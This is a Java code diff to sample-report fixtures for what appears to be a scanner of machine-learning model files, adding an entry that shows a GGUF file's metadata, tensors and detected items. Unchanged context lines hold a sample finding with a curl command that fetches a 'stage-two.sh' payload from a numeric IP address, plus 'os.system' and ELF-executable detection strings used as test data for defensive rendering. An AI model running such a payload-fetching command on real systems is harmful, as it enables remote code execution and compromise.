@@ -1,11 +1,14 @@
 package dev.assay.app.render;
 
 import dev.assay.engine.fact.Program;
+import dev.assay.engine.fact.Property;
+import dev.assay.engine.fact.TensorInfo;
 import dev.assay.engine.report.Coverage;
 import dev.assay.engine.report.Explained;
 import dev.assay.engine.report.Finding;
 import dev.assay.engine.report.Gap;
 import dev.assay.engine.report.GapKind;
+import dev.assay.engine.report.Inspected;
 import dev.assay.engine.report.Location;
 import dev.assay.engine.report.Performance;
 import dev.assay.engine.report.ReferenceData;
@@ -33,6 +36,7 @@ final class SampleReports {
                     case Finding finding -> sink.finding(finding);
                     case Gap gap -> sink.gap(gap);
                     case Explained program -> sink.program(program);
+                    case Inspected model -> sink.inspected(model);
                     case Suppressed suppressed -> sink.suppressed(suppressed);
                     default -> throw new IllegalArgumentException(part.toString());
                 }
@@ -129,6 +133,7 @@ final class SampleReports {
                                 "    'a': 'curl -fsS http://203.0.113.7/payload/stage-two.sh?campaign=autumn',", -1),
                         new Program.Line("})", -1),
                         new Program.Line("return v1", 1092))));
+        parts.add(model());
         for (GapKind kind : GapKind.values()) {
             parts.add(new Gap(kind, Location.of("models", "gaps/" + kind.id() + ".bin"), reason(kind), -1));
         }
@@ -172,8 +177,47 @@ final class SampleReports {
             parts.add(new Gap(GapKind.UNSUPPORTED, at, "opcode in " + name, 3));
             parts.add(new Suppressed("model/os-command", at, "ff", name));
             parts.add(new Explained(at, List.of(new Program.Line(name, 1), new Program.Line("# " + name, -1))));
+            parts.add(new Inspected(
+                    at,
+                    List.of(name),
+                    7,
+                    "",
+                    List.of(new Property(Property.NAME, name, 1), new Property(Property.METADATA + name, name, 1)),
+                    List.of(new TensorInfo(name, name, List.of(1L), 1, 1)),
+                    List.of(name),
+                    1));
         }
         return report(parts, Verdict.UNSAFE, false, performance(340, 0, 0, 0));
+    }
+
+    private static Inspected model() {
+        return new Inspected(
+                Location.of("models", "small.gguf"),
+                List.of("gguf"),
+                1_234_567,
+                "ab".repeat(32),
+                List.of(
+                        new Property(Property.NAME, "Small", 24),
+                        new Property(Property.VERSION, "1.0", 40),
+                        new Property(Property.DESCRIPTION, "A small model.", 48),
+                        new Property(Property.FRAMEWORK, "GGML", -1),
+                        new Property(Property.ARCHITECTURE, "llama", 60),
+                        new Property(Property.QUANTIZATION, "Q4_K_M", 70),
+                        new Property(Property.LICENCE, "apache-2.0", 80),
+                        new Property(Property.LICENCE, "Own licence", 90),
+                        new Property(Property.AUTHOR, "Acme", 95),
+                        new Property(Property.ORIGIN, "https://models.example/small", 96),
+                        new Property(Property.METADATA + "llama.block_count", "2", 100),
+                        new Property(Property.TENSORS, "12", -1),
+                        new Property(Property.PARAMETERS, "2100000", -1),
+                        new Property(Property.TENSOR_BYTES, "1230000", -1),
+                        new Property(Property.TYPES, "F32, Q4_K", -1)),
+                List.of(
+                        new TensorInfo("token_embd.weight", "Q4_K", List.of(256L, 8000L), 1024, 1_152_000),
+                        new TensorInfo("output_norm.weight", "F32", List.of(256L), 1_153_024, 1024),
+                        new TensorInfo("scale", "F32", List.of(), -1, -1)),
+                List.of("ELF executable for x86-64", "os.system"),
+                3);
     }
 
     static Report of(List<Object> parts) {
@@ -261,6 +305,7 @@ final class SampleReports {
                     at = gap.location();
                 }
                 case Explained program -> at = program.location();
+                case Inspected model -> at = model.location();
                 case Suppressed each -> {
                     suppressed++;
                     at = each.location();
